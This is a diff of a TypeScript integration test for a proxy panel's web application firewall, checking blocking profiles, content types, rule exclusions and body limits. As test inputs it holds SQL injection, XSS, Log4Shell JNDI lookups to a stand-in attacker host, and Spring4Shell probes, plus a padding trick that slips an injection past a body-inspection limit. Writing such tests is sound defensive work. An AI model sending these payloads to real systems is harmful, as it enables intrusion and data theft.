@@ -23,8 +23,14 @@ const HOSTS: Array<[string, Record<string, unknown>]> = [
   ['types.example.test', { ...blocking, waf_profile: 'full', waf_allowed_content_types: ['application/json', 'text/plain'] }],
   ['hooks.example.test', { ...blocking, waf_profile: 'full' }],
   ['hooks-other.example.test', { ...blocking, waf_profile: 'full' }],
-  ['refuse.example.test', { ...blocking, waf_profile: 'fast', waf_body_max_args: 5, waf_json_max_depth: 3, waf_body_limit_action: 'refuse' }],
-  ['partial.example.test', { ...blocking, waf_profile: 'fast', waf_body_max_args: 5, waf_body_limit_kb: 4, waf_body_limit_action: 'partial' }],
+  [
+    'refuse.example.test',
+    { ...blocking, waf_profile: 'fast', waf_body_max_args: 5, waf_json_max_depth: 3, waf_body_limit_action: 'refuse' },
+  ],
+  [
+    'partial.example.test',
+    { ...blocking, waf_profile: 'fast', waf_body_max_args: 5, waf_body_limit_kb: 4, waf_body_limit_action: 'partial' },
+  ],
   ['pass.example.test', { ...blocking, waf_profile: 'fast', waf_body_max_args: 5, waf_body_limit_action: 'pass' }],
 ]
 
@@ -40,18 +46,29 @@ beforeAll(async () => {
     hostIds[domain] = res.json.id
   }
 })
-afterAll(async () => { await stack?.stop(); await ns?.destroy(); await up?.stop() })
+afterAll(async () => {
+  await stack?.stop()
+  await ns?.destroy()
+  await up?.stop()
+})
 
 const url = (path: string) => `http://${HOST_ADDRESS}:${stack.httpPort}${path}`
-async function send(host: string, path: string, from: string, opts: { method?: string; type?: string; body?: string; headers?: string[] } = {}) {
+async function send(
+  host: string,
+  path: string,
+  from: string,
+  opts: { method?: string; type?: string; body?: string; headers?: string[] } = {},
+) {
   const args = ['-H', `Host: ${host}`, ...(opts.headers ?? []).flatMap((h) => ['-H', h])]
-  if (opts.body !== undefined) args.push('-X', opts.method ?? 'POST', '-H', `Content-Type: ${opts.type ?? 'application/json'}`, '--data-binary', opts.body)
+  if (opts.body !== undefined)
+    args.push('-X', opts.method ?? 'POST', '-H', `Content-Type: ${opts.type ?? 'application/json'}`, '--data-binary', opts.body)
   return (await ns.curl(url(path), args, { fromAddress: from })).status
 }
 const tagsSeenUpstream = (since: number) => up.requests.slice(since).map((r) => new URL(r.url, 'http://x').searchParams.get('t'))
 
 const wafRows = async () => (await stack.panel.request('/api/logs?source=waf_audit&limit=500', { cookie: stack.admin })).json as any[]
-const rowFor = (rows: any[], tag: string) => rows.find((r) => typeof r.path === 'string' && new URL(r.path, 'http://x').searchParams.get('t') === tag)
+const rowFor = (rows: any[], tag: string) =>
+  rows.find((r) => typeof r.path === 'string' && new URL(r.path, 'http://x').searchParams.get('t') === tag)
 
 const SQLI_QUERY = "q=1'%20OR%20'1'='1"
 const XSS_QUERY = 'q=%3Cscript%3Ealert(1)%3C/script%3E'
@@ -63,17 +80,39 @@ describe.each(['fast', 'full'])('the %s profile (blocking)', (profile) => {
   it('passes clean traffic and a JSON API body; refuses SQL injection and XSS in the query and in a JSON body', async () => {
     const before = up.requests.length
     expect(await send(host, `/orders?t=${profile}-clean`, CLIENT.probes)).toBe(200)
-    expect(await send(host, `/orders?t=${profile}-json`, CLIENT.probes, { body: json({ items: [{ id: 1, name: 'book', qty: 2 }], note: "it's fine" }) })).toBe(200)
+    expect(
+      await send(host, `/orders?t=${profile}-json`, CLIENT.probes, {
+        body: json({ items: [{ id: 1, name: 'book', qty: 2 }], note: "it's fine" }),
+      }),
+    ).toBe(200)
     expect(await send(host, `/search?${SQLI_QUERY}&t=${profile}-sqli`, CLIENT.probes)).toBe(403)
     expect(await send(host, `/search?${XSS_QUERY}&t=${profile}-xss`, CLIENT.probes)).toBe(403)
-    expect(await send(host, `/orders?t=${profile}-json-sqli`, CLIENT.probes, { body: json({ items: [{ id: 1, name: "1' OR '1'='1" }] }) })).toBe(403)
-    expect(await send(host, `/orders?t=${profile}-json-xss`, CLIENT.probes, { body: json({ comment: '<script>alert(document.cookie)</script>' }) })).toBe(403)
+    expect(
+      await send(host, `/orders?t=${profile}-json-sqli`, CLIENT.probes, { body: json({ items: [{ id: 1, name: "1' OR '1'='1" }] }) }),
+    ).toBe(403)
+    expect(
+      await send(host, `/orders?t=${profile}-json-xss`, CLIENT.probes, {
+        body: json({ comment: '<script>alert(document.cookie)</script>' }),
+      }),
+    ).toBe(403)
     // Log4Shell in a header: the panel's virtual patch, in both profiles (the ${ is the attack, not a template).
     // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
-    expect(await send(host, `/orders?t=${profile}-log4j`, CLIENT.probes, { headers: ['X-Api-Version: ${jndi:ldap://attacker.test/a}'] })).toBe(403)
+    expect(
+      await send(host, `/orders?t=${profile}-log4j`, CLIENT.probes, { headers: ['X-Api-Version: ${jndi:ldap://attacker.test/a}'] }),
+    ).toBe(403)
     // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
-    expect(await send(host, `/orders?t=${profile}-log4j-json`, CLIENT.probes, { body: json({ user: '${${lower:j}ndi:ldap://attacker.test/a}' }) })).toBe(403)
-    expect(await send(host, `/orders?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&t=${profile}-spring`, CLIENT.probes)).toBe(403)
+    expect(
+      await send(host, `/orders?t=${profile}-log4j-json`, CLIENT.probes, {
+        body: json({ user: '${${lower:j}ndi:ldap://attacker.test/a}' }),
+      }),
+    ).toBe(403)
+    expect(
+      await send(
+        host,
+        `/orders?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&t=${profile}-spring`,
+        CLIENT.probes,
+      ),
+    ).toBe(403)
     expect(tagsSeenUpstream(before)).toEqual([`${profile}-clean`, `${profile}-json`])
   })
 
@@ -100,7 +139,9 @@ describe('allowed content types', () => {
     expect(await send('full.example.test', '/hook?t=ct-default', CLIENT.types, { type: 'text/plain', body: 'event=push' })).toBe(403)
     expect(await send('types.example.test', '/hook?t=ct-allowed', CLIENT.types, { type: 'text/plain', body: 'event=push' })).toBe(200)
     expect(await send('types.example.test', '/hook?t=ct-json', CLIENT.types, { body: json({ event: 'push' }) })).toBe(200)
-    expect(await send('types.example.test', '/hook?t=ct-other', CLIENT.types, { type: 'application/x-www-form-urlencoded', body: 'event=push' })).toBe(403)
+    expect(
+      await send('types.example.test', '/hook?t=ct-other', CLIENT.types, { type: 'application/x-www-form-urlencoded', body: 'event=push' }),
+    ).toBe(403)
     const rows = await eventually(wafRows, (r) => !!rowFor(r, 'ct-default') && !!rowFor(r, 'ct-other'), 15_000, 200)
     expect(rowFor(rows, 'ct-default').waf_rule_id).toBe(920420)
     expect(rowFor(rows, 'ct-other').waf_rule_id).toBe(920420)
@@ -109,7 +150,8 @@ describe('allowed content types', () => {
 
 describe('a rule exclusion made from a waf_audit row', () => {
   const host = 'hooks.example.test'
-  const webhook = (tag: string, h = host, path = '/webhook') => send(h, `${path}?t=${tag}`, CLIENT.exclusion, { type: 'text/plain', body: 'delivery' })
+  const webhook = (tag: string, h = host, path = '/webhook') =>
+    send(h, `${path}?t=${tag}`, CLIENT.exclusion, { type: 'text/plain', body: 'delivery' })
   let exclusionId = 0
 
   it('stops that rule for that host under that path only, and writes an audit row', async () => {
@@ -134,7 +176,13 @@ describe('a rule exclusion made from a waf_audit row', () => {
     expect(listed.json.map((e: any) => e.id)).toEqual([exclusionId])
     const audit = (await stack.panel.request('/api/logs?source=audit&limit=200', { cookie: stack.admin })).json as any[]
     const entry = audit.find((a) => a.message === 'waf_exclusion_create')
-    expect(JSON.parse(entry.raw)).toMatchObject({ exclusion_id: exclusionId, host_id: hostIds[host], rule_id: 920420, path: '/webhook', source_log_id: row.id })
+    expect(JSON.parse(entry.raw)).toMatchObject({
+      exclusion_id: exclusionId,
+      host_id: hostIds[host],
+      rule_id: 920420,
+      path: '/webhook',
+      source_log_id: row.id,
+    })
   })
 
   it('refuses what it cannot make, naming the fix, and changes nothing', async () => {
@@ -147,7 +195,11 @@ describe('a rule exclusion made from a waf_audit row', () => {
     const wrong = await stack.panel.request(`/api/logs/${access.id}/waf-exclusion`, { method: 'POST', cookie: stack.admin, body: {} })
     expect(wrong.status).toBe(400)
     expect(wrong.json.error).toMatch(/waf_audit rows/)
-    const bad = await stack.panel.request(`/api/hosts/${hostIds[host]}/waf-exclusions`, { method: 'POST', cookie: stack.admin, body: { rule_id: 942100, path: '/a" b' } })
+    const bad = await stack.panel.request(`/api/hosts/${hostIds[host]}/waf-exclusions`, {
+      method: 'POST',
+      cookie: stack.admin,
+      body: { rule_id: 942100, path: '/a" b' },
+    })
     expect(bad.status).toBe(400)
     expect(bad.json.error).toMatch(/^path: /)
     const listed = await stack.panel.request(`/api/hosts/${hostIds[host]}/waf-exclusions`, { cookie: stack.admin })
@@ -162,7 +214,8 @@ describe('a rule exclusion made from a waf_audit row', () => {
 })
 
 describe('request body limits', () => {
-  const values = (n: number, at?: number, payload = "1' OR '1'='1") => json(Object.fromEntries(Array.from({ length: n }, (_, i) => [`f${i}`, i === at ? payload : `value ${i}`])))
+  const values = (n: number, at?: number, payload = "1' OR '1'='1") =>
+    json(Object.fromEntries(Array.from({ length: n }, (_, i) => [`f${i}`, i === at ? payload : `value ${i}`])))
 
   it('refuse: more arguments, or deeper JSON, than the host allows is refused with 413', async () => {
     const host = 'refuse.example.test'
@@ -177,7 +230,8 @@ describe('request body limits', () => {
     expect(await send(host, '/api?t=partial-first', CLIENT.limits, { body: values(8, 0) })).toBe(403)
     expect(await send(host, '/api?t=partial-late', CLIENT.limits, { body: values(8, 7) })).toBe(200)
     // 4 KiB limit: an injection in the first part is caught, one after 5 KB of padding is not.
-    const padded = (first: boolean) => json(first ? { a: "1' OR '1'='1", pad: 'x'.repeat(5000) } : { pad: 'x'.repeat(5000), a: "1' OR '1'='1" })
+    const padded = (first: boolean) =>
+      json(first ? { a: "1' OR '1'='1", pad: 'x'.repeat(5000) } : { pad: 'x'.repeat(5000), a: "1' OR '1'='1" })
     expect(await send(host, '/api?t=partial-size-first', CLIENT.limits, { body: padded(true) })).toBe(403)
     expect(await send(host, '/api?t=partial-size-late', CLIENT.limits, { body: padded(false) })).toBe(200)
   })
@@ -193,7 +247,13 @@ describe('host settings', () => {
   it('the catalogue lists the profiles with their defaults and the families the form offers', async () => {
     const res = await stack.panel.request('/api/waf/catalogue', { cookie: stack.admin })
     expect(res.status).toBe(200)
-    expect(res.json.profiles).toContainEqual({ id: 'fast', body_limit_kb: 16, body_max_args: 256, json_max_depth: 16, body_limit_action: 'partial' })
+    expect(res.json.profiles).toContainEqual({
+      id: 'fast',
+      body_limit_kb: 16,
+      body_max_args: 256,
+      json_max_depth: 16,
+      body_limit_action: 'partial',
+    })
     expect(res.json.families.map((f: any) => f.id)).toEqual(['sqli', 'xss', 'lfi', 'rce', 'php', 'java', 'protocol'])
     expect(res.json.crs_default_content_types).not.toContain('text/plain')
   })
@@ -201,10 +261,16 @@ describe('host settings', () => {
   it('deleting a host deletes its exclusions', async () => {
     const group = (await stack.panel.request('/api/target-groups', { cookie: stack.admin })).json[0]
     const created = await createHost(stack, { domain: 'gone.example.test', target_group_id: group.id, ...blocking })
-    const ex = await stack.panel.request(`/api/hosts/${created.json.id}/waf-exclusions`, { method: 'POST', cookie: stack.admin, body: { rule_id: 942100, path: '/x' } })
+    const ex = await stack.panel.request(`/api/hosts/${created.json.id}/waf-exclusions`, {
+      method: 'POST',
+      cookie: stack.admin,
+      body: { rule_id: 942100, path: '/x' },
+    })
     expect(ex.status, ex.text).toBe(201)
     expect((await stack.panel.request(`/api/hosts/${created.json.id}`, { method: 'DELETE', cookie: stack.admin })).status).toBe(204)
-    const rows = await stack.panel.db().execute({ sql: 'SELECT count(*) AS n FROM waf_exclusions WHERE host_id = ?', args: [created.json.id] })
+    const rows = await stack.panel
+      .db()
+      .execute({ sql: 'SELECT count(*) AS n FROM waf_exclusions WHERE host_id = ?', args: [created.json.id] })
     expect(Number(rows.rows[0]!.n)).toBe(0)
   })
 
@@ -229,7 +295,11 @@ describe('host settings', () => {
   it('a PUT that leaves the WAF fields out keeps them', async () => {
     const id = hostIds['types.example.test']!
     const current = (await stack.panel.request(`/api/hosts/${id}`, { cookie: stack.admin })).json
-    const res = await stack.panel.request(`/api/hosts/${id}`, { method: 'PUT', cookie: stack.admin, body: { domain: current.domain, target_group_id: current.target_group_id, tls_mode: 'none' } })
+    const res = await stack.panel.request(`/api/hosts/${id}`, {
+      method: 'PUT',
+      cookie: stack.admin,
+      body: { domain: current.domain, target_group_id: current.target_group_id, tls_mode: 'none' },
+    })
     expect(res.status, res.text).toBe(200)
     expect(res.json).toMatchObject({ waf_profile: 'full', waf_allowed_content_types: ['application/json', 'text/plain'] })
   })
